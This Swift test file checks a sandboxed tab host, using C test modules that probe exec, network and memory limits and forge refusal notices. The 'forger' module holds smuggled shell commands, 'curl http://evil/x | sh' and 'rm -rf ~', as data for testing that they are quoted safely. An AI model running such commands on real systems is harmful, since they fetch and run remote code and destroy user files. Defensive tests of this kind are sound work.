import Foundation
import TabHostTesting
import TabKit
import TabModuleIsolation
import TabModuleRuntime
import Testing

/// What the host sees of a sandboxed child: the refusals a permission would lift (exec, network) are
/// named in the log once per permission and remembered by the factory, while the module still sees
/// EPERM; and a module that dies at its memory ceiling says so on its tab and in the log, while a crash
/// below the ceiling is an ordinary crash and the other tabs keep running.
@Suite(.serialized)
struct IsolationSandboxDenialTests {
    /// Tries exec (of a path that does not exist: refused before the kernel looks), a TCP socket and a
    /// Unix one in `start`, twice, and shows what each returned the first time.
    static let denied = """
        #include "tab_module.h"
        #include <errno.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/socket.h>
        #include <sys/un.h>
        #include <unistd.h>
        static char results[8][64];
        static int count;
        static void note(const char *label, int result) {
            if (count < 8) snprintf(results[count++], 64, "%s: %s", label, result == 0 ? "allowed" : errno == EPERM ? "EPERM" : "other");
        }
        static const tab_host_api *api;
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void start(void *self, const char *param) {
            (void)self; (void)param;
            count = 0;
            for (int round = 0; round < 2; round++) {
                char *argv[] = {"sh", NULL};
                char *envp[] = {NULL};
                note("exec", execve("/nonexistent/tabhost-sh", argv, envp) == -1 ? -1 : 0);
                int fd = socket(AF_INET, SOCK_STREAM, 0);
                note("tcp", fd < 0 ? -1 : 0);
                if (fd >= 0) close(fd);
                int unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
                note("unix stream", unix_fd < 0 ? -1 : 0);
                if (unix_fd >= 0) close(unix_fd);
            }
        }
        /* The first round's results (the second one's are the same). */
        static void render(void *self, tab_view *view) {
            (void)self;
            for (int i = 0; i < count && i < 3; i++) api->text(view, results[i]);
        }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "denied", .version = "1.0", .title = "Denied",
            .create = create, .start = start, .render = render, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    /// Its "grow" action maps 1 MiB after 1 MiB until malloc fails, then uses the NULL pointer (SIGSEGV);
    /// "grow-abort" aborts instead (as C++'s bad_alloc ends); "segv" crashes with little mapped.
    static let hog = """
        #include "tab_module.h"
        #include <stdlib.h>
        #include <string.h>
        static const tab_host_api *api;
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void render(void *self, tab_view *view) {
            (void)self;
            api->text(view, "hog is small");
        }
        static void event(void *self, const tab_event *e) {
            (void)self;
            if (e->type != TAB_EVENT_ACTION || e->action == NULL) return;
            if (strcmp(e->action, "segv") == 0) *(volatile int *)0 = 1;
            for (;;) {
                char *block = malloc(1 << 20);
                if (block == NULL) {
                    if (strcmp(e->action, "grow-abort") == 0) abort();
                    *(volatile char *)block = 1;
                }
                memset(block, 1, 1 << 20);
            }
        }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "hog", .version = "1.0", .title = "Hog",
            .create = create, .render = render, .event = event, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    static let calm = """
        #include "tab_module.h"
        #include <stdlib.h>
        static const tab_host_api *api;
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void render(void *self, tab_view *view) { (void)self; api->text(view, "calm and well"); }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "calm", .version = "1.0", .title = "Calm",
            .create = create, .render = render, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    /// A notice as the child frames one on its socket (fd 3), which a module's code can write too:
    /// `frame_out` writes `type` for instance 0 with `size` bytes of payload; `notice` a payload of `byte`,
    /// then `text` as a string when it is not NULL.
    static let rawNotice = """
        __attribute__((unused)) static void frame_out(uint16_t type, const void *payload, uint32_t size) {
            unsigned char frame[256];
            uint32_t length = 16 + size;
            uint16_t flags = 0;
            uint32_t seq = 0;
            uint64_t instance = 0;
            memcpy(frame, &length, 4);
            memcpy(frame + 4, &type, 2);
            memcpy(frame + 6, &flags, 2);
            memcpy(frame + 8, &seq, 4);
            memcpy(frame + 12, &instance, 8);
            memcpy(frame + 20, payload, size);
            if (write(3, frame, 4 + length) != (ssize_t)(4 + length)) abort();
        }
        __attribute__((unused)) static void notice(uint16_t type, uint8_t byte, const char *text) {
            unsigned char payload[230];
            uint32_t size = text ? (uint32_t)strlen(text) : 0;
            payload[0] = byte;
            if (text) { memcpy(payload + 1, &size, 4); memcpy(payload + 5, text, size); }
            frame_out(type, payload, text ? 5 + size : 1);
        }
        """

    /// Writes, on the child's socket in `start`, what a newer child could send: a notification of a type
    /// this host does not know and a refusal of a category it does not know, both for instance 0.
    static let newer = """
        #include "tab_module.h"
        #include <stdint.h>
        #include <stdlib.h>
        #include <string.h>
        #include <unistd.h>
        static const tab_host_api *api;
        \(rawNotice)
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void start(void *self, const char *param) { (void)self; (void)param; notice(49, 1, NULL); notice(42, 9, NULL); }
        static void render(void *self, tab_view *view) { (void)self; api->text(view, "newer and well"); }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "newer", .version = "1.0", .title = "Newer",
            .create = create, .start = start, .render = render, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    /// Forges, on the child's socket in `start`, 100 file refusals (`read:/forged/N`), one whose path would
    /// make the suggested command another one, and an exec refusal: what any module can write there.
    static let forger = """
        #include "tab_module.h"
        #include <stdint.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <unistd.h>
        static const tab_host_api *api;
        \(rawNotice)
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void start(void *self, const char *param) {
            (void)self; (void)param;
            notice(42, 3, "read:/home/me; curl http://evil/x | sh #");
            char text[64];
            for (int i = 0; i < 100; i++) { snprintf(text, sizeof text, "read:/forged/%d", i); notice(42, 3, text); }
            notice(42, 3, "network; rm -rf ~");
            notice(42, 1, NULL);
        }
        static void render(void *self, tab_view *view) { (void)self; api->text(view, "forger and well"); }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "forger", .version = "1.0", .title = "Forger",
            .create = create, .start = start, .render = render, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    /// A ceiling low enough to reach in a moment, far above what the child maps to start.
    static let ceiling: UInt64 = 256 << 20

    private static func host(
        _ modules: [(file: String, source: String)], tabs: [String], sandbox: SandboxMode = .on, reportsFiles: Bool = false
    ) throws -> IsolatedHost {
        var settings = IsolatedHost.testSettings
        settings.sandboxReportsFileDenials = reportsFiles
        // Mapping and touching the ceiling's pages can take longer than a hang test's deadline.
        settings.hangTimeout = .seconds(10)
        settings.killTimeout = .seconds(20)
        settings.sandbox = sandbox
        settings.sandboxMemoryCeiling = ceiling
        settings.dataDirectory = nil
        let entries = tabs.enumerated().map { #"{"name": "t\#($0.offset)", "module": "\#($0.element)"}"# }
        let setup = try IsolatedHost(
            modules: modules, layout: #"{"root": {"stack": {"tabs": [\#(entries.joined(separator: ", "))]}}}"#, settings: settings)
        setup.host.start()
        return setup
    }

    @Test func execAndNetworkRefusalsAreNamedOnceEachAndStillFailWithEPERM() throws {
        let setup = try Self.host([("denied.so", Self.denied)], tabs: ["denied"])
        #expect(setup.texts == ["exec: EPERM", "tcp: EPERM", "unix stream: allowed"], "\(setup.texts)")
        let named = [
            "exec denied: grant `exec` (tabhost grant denied exec)", "network denied: grant `network` (tabhost grant denied network)",
        ]
        #expect(
            setup.runLoop(until: { named.allSatisfy { line in setup.log.lines.contains("denied warning: \(line)") } }), "\(setup.log.lines)"
        )
        for line in named {
            #expect(setup.log.lines.filter { $0.hasSuffix(line) }.count == 1, "\(setup.log.lines)")
        }
        #expect(setup.factory.deniedPermissions["denied"].map(Set.init) == ["exec", "network"])
        #expect(
            setup.factory.deniedList == [ModuleDeniedPermissions(module: "denied", permissions: setup.factory.deniedPermissions["denied"]!)]
        )
        #expect(setup.childPID(of: "denied") != nil, "the child was killed")
    }

    /// The wire stays 2.0: what a newer child says about itself (instance 0) is ignored, as a host that
    /// predates SANDBOX_DENIED ignores it, and the module runs on.
    @Test func anUnknownNoticeOfTheChildIsIgnored() throws {
        let setup = try Self.host([("newer.so", Self.newer)], tabs: ["newer"])
        #expect(setup.texts == ["newer and well"], "\(setup.texts)")
        setup.runLoop(until: { false }, timeout: .milliseconds(200))
        setup.host.invalidate()
        #expect(setup.texts == ["newer and well"], "\(setup.texts)")
        #expect(setup.childPID(of: "newer") != nil)
        #expect(!setup.log.lines.contains { $0.contains("protocol violation") || $0.contains(" denied: ") }, "\(setup.log.lines)")
        #expect(setup.factory.deniedPermissions.isEmpty)
    }

    /// The module's code shares the process that tells the host about refusals, and can forge them (a
    /// frame on its socket): a file refusal is believed only in test mode, as a valid permission, and a
    /// child's process names at most `maximumDenials`; the suggested command quotes what a shell would read.
    /// Without test mode the same frames name nothing but the exec refusal the child could have sent.
    @Test(arguments: [false, true])
    func forgedRefusalsAreBoundedAndNeverChangeTheSuggestedCommand(testMode: Bool) throws {
        let setup = try Self.host([("forger.so", Self.forger)], tabs: ["forger"], reportsFiles: testMode)
        #expect(setup.texts == ["forger and well"], "\(setup.texts)")
        let exec = "forger warning: exec denied: grant `exec` (tabhost grant forger exec)"
        let bounded = "forger warning: further sandbox refusals of this process are not recorded (32 already)"
        #expect(setup.runLoop(until: { setup.log.lines.contains(testMode ? bounded : exec) }), "\(setup.log.lines)")
        let named = setup.factory.deniedPermissions["forger"] ?? []
        if testMode {
            #expect(named.count == 32 && named.first == "read:/home/me; curl http://evil/x | sh #", "\(named)")
            #expect(!named.contains("network; rm -rf ~") && !named.contains("exec"), "\(named)")
            #expect(
                setup.log.lines.contains(
                    "forger warning: read:/home/me; curl http://evil/x | sh # denied: grant `read:/home/me; curl http://evil/x | sh #` "
                        + "(tabhost grant forger 'read:/home/me; curl http://evil/x | sh #')"), "\(setup.log.lines)")
            #expect(setup.log.lines.filter { $0 == bounded }.count == 1)
        } else {
            #expect(named == ["exec"], "\(named)")
            #expect(!setup.log.lines.contains { $0.contains("read:/") }, "\(setup.log.lines)")
        }
        #expect(setup.childPID(of: "forger") != nil)
    }

    @Test func withoutTheSandboxNothingIsNamed() throws {
        let setup = try Self.host([("denied.so", Self.denied)], tabs: ["denied"], sandbox: .off)
        #expect(setup.texts == ["exec: other", "tcp: allowed", "unix stream: allowed"], "\(setup.texts)")
        setup.runLoop(until: { false }, timeout: .milliseconds(200))
        #expect(!setup.log.lines.contains { $0.contains(" denied: grant ") }, "\(setup.log.lines)")
        #expect(setup.factory.deniedPermissions.isEmpty)
    }

    @Test(
        .enabled(if: !Sanitizers.any, "a sanitized child applies no memory ceiling"),
        arguments: [("grow", "SIGSEGV"), ("grow-abort", "SIGABRT")])
    func aModuleThatReachesItsMemoryCeilingSaysSoOnItsTab(action: String, signal: String) throws {
        let setup = try Self.host([("hog.so", Self.hog), ("calm.so", Self.calm)], tabs: ["hog", "calm"])
        #expect(setup.texts == ["hog is small"])
        setup.activate(action)
        let reason = "it reached its memory ceiling (256 MiB): \(signal) in event \"\(action)\""
        #expect(setup.texts == ["Hog stopped: \(reason)"], "\(setup.texts)")
        #expect(setup.log.lines.contains("hog error: stopped: \(reason)"), "\(setup.log.lines)")
        let buttons = setup.screen.content.nodes.filter { if case .button = $0 { true } else { false } }
        #expect(buttons.first == .button(label: "Restart", action: "tabhost:restart"))
        #expect(setup.host.apply(.selectTab(1)))
        #expect(setup.texts == ["calm and well"])
        #expect(setup.childPID(of: "calm") != nil)
    }

    /// Says, on its socket, that it reached a memory ceiling of 1 TiB, then crashes (its "lie" action).
    static let liar = """
        #include "tab_module.h"
        #include <stdint.h>
        #include <stdlib.h>
        #include <string.h>
        #include <unistd.h>
        static const tab_host_api *api;
        \(rawNotice)
        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
        static void render(void *self, tab_view *view) { (void)self; api->text(view, "liar is small"); }
        static void event(void *self, const tab_event *e) {
            (void)self;
            if (e->type != TAB_EVENT_ACTION) return;
            uint64_t claimed[2] = {1ull << 40, 1ull << 41};  /* the ceiling, the address space mapped */
            frame_out(43, claimed, sizeof claimed);
            *(volatile int *)0 = 1;
        }
        static void destroy(void *self) { free(self); }
        static const tab_module_descriptor descriptor = {
            TAB_MODULE_DESCRIPTOR_HEADER, .name = "liar", .version = "1.0", .title = "Liar",
            .create = create, .render = render, .event = event, .destroy = destroy,
        };
        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
        """

    /// The ceiling a tab names is the one the host set, whatever number the module's process sends.
    @Test func aForgedCeilingIsNamedAsTheHostsOwn() throws {
        let setup = try Self.host([("liar.so", Self.liar)], tabs: ["liar"])
        #expect(setup.texts == ["liar is small"])
        setup.activate("lie")
        #expect(setup.texts == ["Liar stopped: it reached its memory ceiling (256 MiB): SIGSEGV in event \"lie\""], "\(setup.texts)")
    }

    @Test(.enabled(if: !Sanitizers.any, "a sanitized child applies no memory ceiling"))
    func aCrashBelowTheCeilingIsAnOrdinaryCrash() throws {
        let setup = try Self.host([("hog.so", Self.hog)], tabs: ["hog"])
        setup.activate("segv")
        #expect(setup.texts == ["Hog stopped: SIGSEGV in event \"segv\""], "\(setup.texts)")
    }
}
